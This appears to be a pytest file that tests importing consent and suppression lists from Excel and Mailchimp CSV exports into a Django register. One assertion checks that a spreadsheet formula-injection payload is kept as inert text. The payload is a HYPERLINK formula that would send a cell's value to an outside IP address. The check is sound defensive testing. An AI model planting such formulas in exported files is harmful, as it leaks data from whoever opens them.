"""The CSV samples of ../shared/samples, imported into empty registers: counts and facts."""

from datetime import UTC, datetime

import pytest

from consents.models import Consent, ConsentMethod, SuppressionEntry
from consents.suppression import suppression_digest
from subjects.models import Source, Subject
from tests.consents.factories import ConsentFactory
from tests.imports.conftest import SAMPLES, counts_of, run_import, sample, table_counts
from tests.subjects.factories import SubjectFactory

EXPECTED = {
    "excel_kk_utf8_bom.csv": {
        "created": 5,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 1,
    },
    "excel_ru_cp1251_semicolon.csv": {
        "created": 2,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 3,
    },
    "subscribed_members_export_3f9a1c2b7d.csv": {
        "created": 4,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 0,
    },
    "unsubscribed_members_export_3f9a1c2b7d.csv": {
        "created": 0,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 3,
        "withdrawn": 0,
        "rejected": 0,
    },
}


def test_every_csv_sample_has_expected_counts():
    assert {path.name for path in SAMPLES.glob("*.csv")} == set(EXPECTED)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_sample_imports_with_the_expected_counts(name):
    report = run_import(sample(name))

    assert counts_of(report) == EXPECTED[name]
    file = report.files[0]
    assert file.rows == sum(EXPECTED[name].values()) + file.outcome.duplicates


@pytest.mark.django_db
def test_kazakh_excel_list_keeps_its_letters_names_and_phones(officer):
    report = run_import(sample("excel_kk_utf8_bom.csv"), actor=officer)

    assert report.files[0].encoding == "utf-8-sig"
    assert report.files[0].delimiter == ";"
    aliya = Subject.objects.get(email="aliya.kassymova@example.com")
    assert (aliya.last_name, aliya.first_name, aliya.phone, aliya.city) == (
        "Қасымова", "Әлия", "+77010000021", "Алматы",
    )  # fmt: skip
    assert aliya.source == Source.IMPORT
    galym = Subject.objects.get(email="galym.nurlanuly@example.net")
    assert (galym.last_name, galym.first_name, galym.phone) == (
        "Нұрланұлы",
        "Ғалым",
        "+77470000022",
    )
    # A leading space before the address is not part of it.
    assert Subject.objects.filter(email="qairat.abenov@example.net").exists()
    # Said no (жоқ) on line 4: not imported, and the reason says so with its line.
    assert not Subject.objects.filter(email="aigul.otegenova@example.org").exists()
    [rejected] = report.files[0].rejected_rows
    assert rejected.line == 4
    assert "жоқ" in rejected.reason


@pytest.mark.django_db
def test_kazakh_consent_date_is_the_registration_date_in_almaty():
    run_import(sample("excel_kk_utf8_bom.csv"))

    consent = Consent.objects.get(subject__email="aliya.kassymova@example.com")
    assert consent.given_at == datetime(2024, 9, 11, 19, 0, tzinfo=UTC)  # 12.09.2024, UTC+5
    assert consent.method == ConsentMethod.IMPORT
    assert consent.policy_version is None  # the old list's text is not our policy


@pytest.mark.django_db
def test_russian_cp1251_list_is_read_and_its_bad_rows_are_reported_by_physical_line():
    report = run_import(sample("excel_ru_cp1251_semicolon.csv"))

    file = report.files[0]
    assert (file.encoding, file.delimiter) == ("cp1251", ";")
    petrov = Subject.objects.get(email="ivan.petrov@example.com")
    assert (petrov.last_name, petrov.first_name, petrov.patronymic) == (
        "Петров",
        "Иван",
        "Сергеевич",
    )
    assert petrov.phone == "+77010000011"
    assert Subject.objects.get(email="anna.smirnova@example.net").last_name == "Смирнова"
    reasons = {rejected.line: rejected.reason for rejected in file.rejected_rows}
    # Line 5 holds a comment over two lines, so the next row starts on line 7.
    assert set(reasons) == {4, 5, 7}
    assert "7,70E+10" in reasons[4]  # rejected, not guessed
    assert "Excel" in reasons[4]
    assert "?" in reasons[4]  # Kazakh letters lost when saved as Windows-1251
    assert "нет" in reasons[5]
    assert "empty" in reasons[7]
    assert not Subject.objects.filter(email="kairat.abenov@example.org").exists()


@pytest.mark.django_db
def test_mailchimp_subscribed_export_keeps_opt_in_evidence_and_the_formula_as_text(officer):
    report = run_import(sample("subscribed_members_export_3f9a1c2b7d.csv"), actor=officer)

    assert report.files[0].list_kind == "mailchimp_subscribed"
    aigerim = Consent.objects.get(subject__email="aigerim.nurlanova@example.com")
    # Confirmed (double opt-in) is when the consent was given; Mailchimp writes UTC.
    assert aigerim.given_at == datetime(2023, 4, 2, 9, 17, 40, tzinfo=UTC)
    payload = aigerim.evidence_payload
    assert payload["imported_from_old_list"] is True
    assert payload["file"] == "subscribed_members_export_3f9a1c2b7d.csv"
    assert payload["sha256"] == report.files[0].sha256
    assert payload["line"] == 2
    assert payload["optin_time"] == "2023-04-02T09:15:11+00:00"
    assert payload["optin_ip"] == "203.0.113.17"
    assert payload["confirm_ip"] == "203.0.113.17"
    for text in ("subscribed_members_export_3f9a1c2b7d.csv", report.files[0].sha256, "line 2",
                 "2023-04-02 09:15:11", "203.0.113.17"):  # fmt: skip
        assert text in aigerim.evidence
    john = Consent.objects.get(subject__email="john.doe.test@example.com")
    assert john.evidence_payload["comment"] == '=HYPERLINK("http://203.0.113.9/?x="&A2,"click")'
    assert Subject.objects.get(email="olga.sidorenko@example.org").first_name == "Ольга"
    assert Subject.objects.get(email="timur.bekov@example.net").phone == "+77020000002"


@pytest.mark.django_db
def test_mailchimp_unsubscribed_export_suppresses_and_never_gives_consents():
    report = run_import(sample("unsubscribed_members_export_3f9a1c2b7d.csv"))

    assert report.files[0].list_kind == "mailchimp_unsubscribed"
    assert Subject.objects.count() == 0
    assert Consent.objects.count() == 0
    digest = suppression_digest(kind="email", value="daniyar.seitkali@example.com")
    assert SuppressionEntry.objects.get(kind="email", digest=digest).reason == "unsubscribed"
    assert SuppressionEntry.objects.count() == 3


@pytest.mark.django_db
def test_mailchimp_unsubscribed_export_withdraws_a_live_consent_given_before_leaving(officer):
    subject = SubjectFactory(email="daniyar.seitkali@example.com")
    consent = ConsentFactory(subject=subject, given_at=datetime(2022, 3, 1, tzinfo=UTC))

    report = run_import(sample("unsubscribed_members_export_3f9a1c2b7d.csv"), actor=officer)

    assert counts_of(report)["withdrawn"] == 1
    consent.refresh_from_db()
    assert consent.state == "withdrawn"
    assert consent.withdrawn_at == datetime(2024, 5, 17, 4, 31, 9, tzinfo=UTC)  # UNSUB_TIME
    assert consent.withdrawal_channel == "unsubscribe_link"
    change = Consent.history.filter(id=consent.pk).order_by("history_id").last()
    assert (change.history_type, change.history_user, change.state) == ("~", officer, "withdrawn")
    assert "unsubscribed_members_export_3f9a1c2b7d.csv" in change.history_change_reason


@pytest.mark.django_db
def test_a_consent_given_after_leaving_mailchimp_is_not_withdrawn_by_the_old_export():
    subject = SubjectFactory(email="daniyar.seitkali@example.com")
    consent = ConsentFactory(subject=subject, given_at=datetime(2025, 6, 1, tzinfo=UTC))
    before = table_counts()

    report = run_import(sample("unsubscribed_members_export_3f9a1c2b7d.csv"))

    assert counts_of(report) == {
        "created": 0,
        "updated": 0,
        "unchanged": 1,
        "suppressed": 2,
        "withdrawn": 0,
        "rejected": 0,
    }
    consent.refresh_from_db()
    assert consent.state == "given"
    assert table_counts()["consents"] == before["consents"]
